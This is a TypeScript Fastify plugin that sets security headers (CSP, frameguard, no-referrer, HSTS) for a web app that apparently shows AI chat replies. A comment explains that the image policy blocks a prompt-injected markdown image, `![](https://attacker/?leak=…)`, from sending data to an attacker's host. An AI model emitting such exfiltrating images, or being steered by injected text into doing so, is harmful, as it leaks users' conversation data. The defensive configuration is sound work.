import type { FastifyRequest } from 'fastify'
import fp from 'fastify-plugin'
import helmet from 'helmet'
import type { Config } from '../../config.ts'

// A year, the value HSTS preload lists ask for.
const HSTS = 'max-age=31536000; includeSubDomains'

/** Whether the browser reached us over TLS: directly, or through a proxy we trust (TRUST_PROXY). */
const overTls = (request: FastifyRequest) => request.protocol === 'https'

/**
 * Security headers on every answer. The CSP fits the built SPA: Vite emits no inline
 * script, so scripts come from our origin only. Images come from our origin or data: URLs,
 * so a prompt-injected `![](https://attacker/?leak=…)` in a reply cannot phone home even if
 * the markdown renderer let one through. Styles allow inline because the toast library
 * injects its stylesheet at runtime; React's `style` props are CSSOM and unaffected.
 *
 * helmet itself, built once: @fastify/helmet builds helmet's middleware (and parses the CSP)
 * again for every request, 2–3% of a claim's CPU for headers that never change.
 */
export default fp(
  async (fastify, opts: { config: Config }) => {
    const production = opts.config.env === 'production'
    const setHeaders = helmet({
      contentSecurityPolicy: {
        useDefaults: false,
        directives: {
          'default-src': ["'self'"],
          'script-src': ["'self'"],
          'style-src': ["'self'", "'unsafe-inline'"],
          'img-src': ["'self'", 'data:'],
          'font-src': ["'self'", 'data:'],
          'connect-src': ["'self'"],
          'object-src': ["'none'"],
          'base-uri': ["'self'"],
          'form-action': ["'self'"],
          'frame-ancestors': ["'none'"],
        },
      },
      // frame-ancestors 'none' in the CSP, and the same for browsers that only read this header.
      frameguard: { action: 'deny' },
      // Conversation ids sit in our URLs: links to vendor docs must not carry them.
      referrerPolicy: { policy: 'no-referrer' },
      // Sent below only over TLS (or always in production): on plain http it would mean nothing.
      strictTransportSecurity: false,
    })
    fastify.addHook('onRequest', (request, reply, done) => {
      if (production || overTls(request)) reply.header('strict-transport-security', HSTS)
      setHeaders(request.raw, reply.raw, () => done())
    })
  },
  { name: 'helmet' },
)
